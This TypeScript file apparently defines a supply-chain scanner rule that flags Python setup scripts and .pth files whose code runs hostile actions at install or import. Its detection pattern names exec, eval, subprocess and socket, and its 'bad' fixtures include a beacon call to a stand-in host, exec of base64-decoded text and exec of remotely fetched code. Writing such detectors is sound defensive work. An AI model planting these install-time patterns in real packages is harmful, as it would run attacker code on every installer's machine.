import type { FileCheck } from '../../check.ts';

/** A line of a path file that Python executes at every start. */
const PATH_LINE = /^import[ \t][^\n]{1,2000}/;
/** Path files of editable installs and of namespaces do this and nothing else. */
const USUAL_LINE =
  /^import (?:__editable___\w+_finder; ?__editable___\w+_finder\.install\(\)|sys, ?types, ?os; ?has_mfs|_virtualenv|distutils-precedence|os; ?var = 'SETUPTOOLS_USE_DISTUTILS'|coverage|a1_coverage|pywin32_bootstrap|_\w+\s*$)/;
/** Runs a text that stands written out, which is how several statements fit on one line. */
const WRITTEN_OUT = /\bexec\((?=(["'])[^\n]{1,1500}\1\)\s*$)/;
const ACTS =
  /\bexec\b|\beval\b|\bsystem\b|\bpopen\b|\bsubprocess\b|\burl|\brequests\b|\bbase64\b|\bsocket\b|\bcompile\b|__import__/;

export const check: FileCheck = {
  id: 'supply-chain-python-import-hook',
  title: 'Hostile code runs as soon as Python installs or imports it',
  severity: 'high',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    \`setup.py\` runs while the package is being installed, a \`.pth\` file and \`sitecustomize\` at every start of Python.
    What stands outside functions runs at the first import. Nobody has to call anything: it happens to everyone.`,
  fix: 'Do not install it. Where you are its author, let setup.py describe the package and do nothing else.',
  blindSpots: 'A function that another module calls at import is not recognised as running then.',
  wants: {
    roles: ['setup-script', 'python-path-hook'],
    acts: [
      'decoded-execution',
      'remote-execution',
      'dropped-execution',
      'environment-sent',
      'system-facts-sent',
      'secret-file-sent',
      'file-sent',
      'disguised-call',
      'shady-contact',
      'install-contact',
      'risky-command',
      'install-command',
      'install-write',
      'remote-control',
    ],
  },
  examples: {
    bad: [
      { 'setup.py': 'from setuptools import setup\n«exec(base64.b64decode("cHJpbnQoMSk="))»\nsetup(name="x")\n' },
      {
        'setup.py':
          'import urllib.request\n«urllib.request.urlopen("https://beacon.example.net/x")»\nsetup(name="x")\n',
      },
      { 'pkg/__init__.py': 'import requests\n«exec(requests.get("https://cdn.example.net/p").text)»\n' },
      { 'x.pth': '«import os; exec(os.environ.get("X", ""))»\n' },
      {
        'trace.pth':
          '«import sys; exec("import os\\nif os.getenv(\'TRACE\'):\\n import trace_it\\n trace_it.start()")»\n',
      },
    ],
    good: [
      { 'setup.py': 'from setuptools import setup\nsetup(name="x", packages=["x"])\n' },
      { 'setup.py': 'subprocess.check_call(["cmake", "--build", "."])\nsetup(name="x")\n' },
      { 'x.pth': '../src\n' },
      { 'pkg/load.py': 'def load(url):\n    exec(requests.get(url).text)\n' },
      { 'app.py': 'import urllib.request\nurllib.request.urlopen("https://api.example.net/x")\n' },
    ],
  },

  *find(file) {
    const isHook = file.role === 'setup-script' || file.role === 'python-path-hook';
    if (!isHook && file.language !== 'python') return;
    const seen = new Set<number>();
    for (const { start, end, message, confidence, atLoad } of file.acts) {
      if (seen.has(start) || !(isHook || atLoad === true)) continue;
      seen.add(start);
      yield { at: file.span(start, end), message: `This runs at installation or import. ${message}`, confidence };
    }
    if (!file.path.toLowerCase().endsWith('.pth')) return;
    for (const { start, text } of file.lines) {
      if (!PATH_LINE.test(text) || USUAL_LINE.test(text) || !ACTS.test(text)) continue;
      const isStart = !ACTS.test(text.replace(WRITTEN_OUT, '(')) && /\bimport (?!os\b|sys\b)\w/.test(text);
      yield {
        at: file.span(start, start + text.trimEnd().length),
        message: `Python runs this line at every start${isStart ? '; it calls a module that everybody can read' : ''}.`,
        ...(isStart && { severity: 'low', confidence: 'medium' }),
      };
    }
  },
};
